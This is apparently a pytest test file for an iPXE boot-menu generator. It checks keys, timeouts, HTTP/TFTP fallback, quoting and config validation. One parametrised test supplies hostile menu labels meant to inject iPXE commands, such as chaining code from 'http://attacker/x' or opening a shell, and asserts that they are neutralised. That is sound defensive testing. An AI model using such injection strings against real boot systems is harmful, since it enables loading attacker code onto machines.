"""The iPXE loader unit: its scripts from the shared Menu, its quoting, its files and the config keys.

What the scripts do on a real iPXE (keys, HTTP with TFTP fallback, UEFI initrd names) is shown by
tests/test_e2e_http.py in VMs; here the text is checked, including that hostile labels and kernel
parameters cannot add or change a line or a command.
"""

from __future__ import annotations

import dataclasses
import re
from pathlib import Path, PurePosixPath

import pytest

from isodrop.config import ConfigError, from_mapping, local_defaults
from isodrop.loaders import active_loaders, loader_files
from isodrop.loaders.choice import BIOS_BOOT_FILE, IPXE_SCRIPT, UEFI_BOOT_FILE
from isodrop.loaders.ipxe import IpxeLoader
from isodrop.model import BootEntry
from isodrop.render.menu import Served, build_menu

BASE = dataclasses.replace(local_defaults(Path("/nonexistent")), uefi_loader="syslinux-efi")
CONFIG = dataclasses.replace(BASE, bios_loader="ipxe", uefi_loader="ipxe", serial_console="ttyS0,115200")
PCBIOS, EFI = PurePosixPath("ipxe/menu-pcbios.ipxe"), PurePosixPath("ipxe/menu-efi.ipxe")


def served(slug: str, label: str, params: tuple[str, ...] = ("boot=live",), **entry: object) -> Served:
    fields = {"family": "debian-live", "kernel": "live/vmlinuz", "initrds": ("live/initrd.img",)} | entry
    base = f"http://10.0.0.1/isodrop/{slug}/"
    return Served(
        slug, f"{slug}.iso", f"isodrop/{slug}", BootEntry(label=label, params=params, **fields), http_url=base
    )


def scripts(entries: list[Served], config=CONFIG) -> dict[PurePosixPath, str]:  # type: ignore[no-untyped-def]
    return IpxeLoader.for_config(config).render(build_menu(entries, config))


def commands(script: str) -> list[str]:
    """The script's command lines as iPXE sees them (comments, blanks and labels left out)."""
    return [ln for ln in script.splitlines() if ln.strip() and not ln.startswith(("#", ":"))]


def test_menu_keys_default_timeout_and_local_boot() -> None:
    config = dataclasses.replace(CONFIG, menu_default="b.iso", menu_timeout=50)
    text = scripts([served("a", "Alpha"), served("b", "Beta")], config)[PCBIOS]
    assert text.startswith("#!ipxe\n")
    assert "item --key 1 entry-iso-a [1] Alpha\n" in text and "item --key 2 entry-iso-b [2] Beta\n" in text
    assert "choose --timeout 5000 --default entry-iso-b target || goto start\n" in text  # tenths -> ms
    assert "item --key l local [l] Boot from local disk\n" in text
    assert "\n:local\nsanboot --no-describe --drive 0x80 || exit 1\n" in text
    assert "\n:local\nexit 1\n" in scripts([served("a", "Alpha")], config)[EFI]  # back to the firmware's next option


def test_timeout_zero_waits_forever_and_local_default() -> None:
    config = dataclasses.replace(CONFIG, menu_timeout=0, menu_default="local")
    text = scripts([served("a", "Alpha")], config)[PCBIOS]
    assert "choose --default local target || goto start\n" in text


def test_kernel_and_initrd_over_http_with_tftp_fallback_root_stays_nfs() -> None:
    text = scripts([served("a", "Alpha", params=("boot=live", "netboot=nfs", "nfsroot=10.0.0.1:/srv/tftp/isodrop/a"))])
    bios, efi = text[PCBIOS], text[EFI]
    kernel = next(ln for ln in bios.splitlines() if ln.startswith("kernel "))
    assert kernel.startswith("kernel http://10.0.0.1/isodrop/a/live/vmlinuz boot=live netboot=nfs nfsroot=")
    assert " || kernel /isodrop/a/live/vmlinuz boot=live " in kernel and kernel.endswith(" || goto failed")
    assert (
        "initrd --name initrd0 http://10.0.0.1/isodrop/a/live/initrd.img || "
        "initrd --name initrd0 /isodrop/a/live/initrd.img || goto failed\n"
    ) in bios
    assert "initrd=initrd0 boot=live" in efi and "initrd=" not in kernel  # the EFI stub finds it by name
    assert "console=ttyS0,115200" in kernel


def test_without_http_url_only_tftp() -> None:
    entry = dataclasses.replace(served("a", "Alpha"), http_url="")
    text = scripts([entry])[PCBIOS]
    assert "http://" not in text and "kernel /isodrop/a/live/vmlinuz boot=live" in text


def test_several_initrds_each_named() -> None:
    text = scripts([served("a", "Alpha", initrds=("i/one.img", "i/two.img"))])[EFI]
    assert "initrd=initrd0 initrd=initrd1 " in text
    assert (
        "initrd --name initrd1 http://10.0.0.1/isodrop/a/i/two.img || initrd --name initrd1 /isodrop/a/i/two.img"
        in text
    )


def test_guessed_marking_and_firmware_split() -> None:
    entries = [served("a", "Alpha", guessed=True), served("m", "Memtest", firmware=("bios",))]
    out = scripts(entries)
    assert "entry-iso-a [1] Alpha [guessed]" in out[PCBIOS]
    assert "entry-iso-m" in out[PCBIOS] and "entry-iso-m" not in out[EFI]


def test_submenus_per_family_when_grouped() -> None:
    config = dataclasses.replace(CONFIG, menu_group_threshold=1, menu_default="b.iso")
    entries = [served("a", "Alpha"), served("b", "Beta", family="casper"), served("c", "Gamma", family="casper")]
    text = scripts(entries, config)[PCBIOS]
    assert "item --key 0 entry-iso-b [0] Beta (default)\n" in text  # the default stays one key away
    assert "item --key 1 group-1 [1] casper >\n" in text and "item --key 2 group-2 [2] debian-live >\n" in text
    group = text[text.index(":group-1\n") : text.index(":group-2\n")]
    assert "item --key 1 entry-iso-b [1] Beta\n" in group and "item --key 2 entry-iso-c [2] Gamma\n" in group
    assert "item --key b start [b] Back\n" in group
    for label in ("entry-iso-a", "entry-iso-b", "entry-iso-c", "group-1", "group-2", "local", "failed", "start"):
        assert f"\n:{label}\n" in text


def test_sidecar_hidden_and_label_come_through_the_menu_model() -> None:
    # Sidecars are applied before build_menu (hidden entries are not in `served`); a renamed label is
    # just the entry's label, quoted like any other.
    text = scripts([served("a", "Renamed by sidecar ${x}")])[PCBIOS]
    assert "entry-iso-a [1] Renamed by sidecar $ {x}\n" in text


HOSTILE = [
    "Evil\nkernel http://attacker/x || boot",
    "Evil || shell",
    "a && chain http://attacker/x",
    "a ; shell",
    "#comment rest",
    "a #comment",
    "${platform} ${net0/mac} ${",
    "\r:start\nshell",
    "\x00\x1b[2J\t--key x",
]


@pytest.mark.parametrize("label", HOSTILE)
def test_hostile_labels_and_params_add_or_change_no_line(label: str) -> None:
    plain = scripts([served("a", "Alpha", params=("boot=live",))])
    param = re.sub(r"[\n\r\0]", " ", label)  # BootEntry itself refuses line breaks and NUL in parameters
    evil = scripts([served("a", label, params=("boot=live", param))])
    for path in (PCBIOS, EFI):
        assert len(evil[path].splitlines()) == len(plain[path].splitlines())
        for line in commands(evil[path]):
            tokens = line.split()
            cut = [i for i, t in enumerate(tokens) if t in ("||", "&&", ";") or t.startswith("#")]
            # The only terminators are the script's own ones after the kernel/initrd URL, before "goto"/"kernel"
            for i in cut:
                assert tokens[i] == "||" and tokens[i + 1] in ("kernel", "initrd", "goto", "exit", "shell"), line
            assert "${" not in line.replace("${target}", "").replace("${platform}", ""), line
        assert not re.search(r"^(shell|chain|boot http)", evil[path], re.M)


def test_quote() -> None:
    q = IpxeLoader.quote
    assert q("a || b && c ; d") == "a | b & c , d"
    assert q("#1 best") == "No.1 best"
    assert q("${x}") == "$ {x}" and q("a\nb\r\tc") == "a b c"
    assert q("Debian 12.5 (amd64) [guessed]") == "Debian 12.5 (amd64) [guessed]"


def test_paths_are_percent_encoded() -> None:
    text = scripts([dataclasses.replace(served("a", "Alpha", kernel="live/vm linuz#1"), http_url="")])[PCBIOS]
    assert "kernel /isodrop/a/live/vm%20linuz%231 " in text


def test_chain_to_the_configured_loader_when_not_ipxe() -> None:
    out = scripts([served("a", "Alpha")], BASE)  # bios_loader pxelinux, uefi_loader syslinux-efi
    assert "set 210:string tftp://${boot-server}/\nchain --autofree /pxelinux.0 || shell\n" in out[PCBIOS]
    assert "set 210:string tftp://${boot-server}/efi64/\nchain --autofree /efi64/bootx64.efi || shell\n" in out[EFI]
    assert "item" not in out[PCBIOS]
    grub = scripts([served("a", "Alpha")], dataclasses.replace(BASE, uefi_loader="grub"))[EFI]  # the default
    # neither shim (refuses what iPXE hands it) nor GRUB (finds no config when chained): iPXE's own menu
    assert "chain --autofree" not in grub and "item --key 1 entry-iso-a" in grub
    assert "chain --autofree menu-${platform}.ipxe" in out[IPXE_SCRIPT]


def test_fixed_boot_file_names_follow_the_config() -> None:
    assert loader_files(BASE)[BIOS_BOOT_FILE] == BASE.pxelinux_file
    assert loader_files(BASE)[UEFI_BOOT_FILE] == BASE.syslinux_efi_file
    assert PurePosixPath("undionly.kpxe") not in loader_files(BASE), "no ipxe package needed unless chosen"
    files = loader_files(CONFIG)
    assert files[BIOS_BOOT_FILE] == Path("/usr/lib/ipxe/undionly.kpxe")
    assert files[UEFI_BOOT_FILE] == Path("/usr/lib/ipxe/snponly.efi")
    assert files[PurePosixPath("ipxe/ipxe.efi")] == Path("/usr/lib/ipxe/ipxe.efi")
    assert [loader.name for loader in active_loaders(CONFIG)][0] == "ipxe"


def test_debian_ipxe_files_exist_where_the_config_says() -> None:
    for source in loader_files(CONFIG).values():
        if source.parent == CONFIG.ipxe_dir and not source.exists():
            pytest.skip(f"{source} missing: install ipxe (tests/apt-packages.txt)")
    assert Path("/usr/lib/ipxe/undionly.kpxe").stat().st_size > 10_000


def test_loader_keys_are_validated() -> None:
    assert from_mapping({"bios_loader": "ipxe", "uefi_loader": "grub"}, BASE, "t").uefi_loader == "grub"
    with pytest.raises(ConfigError, match="^t: key 'bios_loader': must be one of 'pxelinux', 'ipxe', got 'grub'$"):
        active_loaders(from_mapping({"bios_loader": "grub"}, BASE, "t"))
    with pytest.raises(ConfigError, match="uefi_loader"):
        active_loaders(from_mapping({"uefi_loader": "pxelinux"}, BASE, "t"))


def test_template_override_from_templates_dir(tmp_path: Path) -> None:
    (tmp_path / "menu.ipxe.j2").write_text("#!ipxe\necho custom {{ platform }}\n")
    config = dataclasses.replace(CONFIG, templates_dir=tmp_path)
    assert scripts([served("a", "Alpha")], config)[PCBIOS] == "#!ipxe\necho custom bios\n"
